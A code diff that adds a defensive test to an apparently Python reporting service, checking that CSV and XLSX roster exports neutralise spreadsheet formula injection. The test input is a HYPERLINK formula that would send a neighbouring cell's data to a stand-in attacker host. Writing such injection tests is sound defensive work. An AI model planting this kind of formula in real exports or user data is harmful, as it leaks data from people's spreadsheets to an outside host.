@@ -5,6 +5,7 @@ import csv
 import hashlib
 import io
 import json
+import zipfile
 from typing import Any
 
 from sqlalchemy import text
@@ -197,3 +198,42 @@ async def test_rebuild_check_reports_a_changed_enrolment_term(session: AsyncSess
     assert await rebuild_check(session) == []
     await session.execute(text("UPDATE enrolment_term SET role = 'PPK' WHERE nik = :n"), {"n": person})
     assert any(d.startswith("enrolment_term has extra t-1") for d in await rebuild_check(session))
+
+
+async def test_text_that_a_spreadsheet_would_run_stays_text(uploader: Uploader) -> None:
+    """A committee named like a formula: quoted in CSV (written by PostgreSQL or by Python), and a
+    string, not a formula, in XLSX."""
+    person = nik()
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    await append(
+        uploader.client,
+        uploader.keys.admin,
+        registered(person),
+        enrolled(
+            person,
+            event_id=f"e-{person}",
+            valid_from="2024-01-25",
+            valid_to="2024-02-24",
+            registered_on="2024-01-15",
+            committee=evil,
+        ),
+    )
+    params = {"valid_at": "2024-02-01", "format": "csv"}
+    roster = await uploader.client.get(
+        "/v1/reports/coverage-roster", params=params, headers=Keys.header(uploader.keys.auditor)
+    )
+    (row,) = [r for r in csv.DictReader(io.StringIO(roster.text)) if r["nik"] == person]
+    assert row["committee"] == "'" + evil
+    assert row["region_code"] == "16.71.01"  # other cells as they were
+    xlsx = await uploader.client.get(
+        "/v1/reports/coverage-roster",
+        params=params | {"format": "xlsx"},
+        headers=Keys.header(uploader.keys.auditor),
+    )
+    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml")
+        strings = (
+            archive.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in archive.namelist() else b""
+        )
+    assert b"<f>" not in sheet
+    assert b"HYPERLINK" in sheet + strings
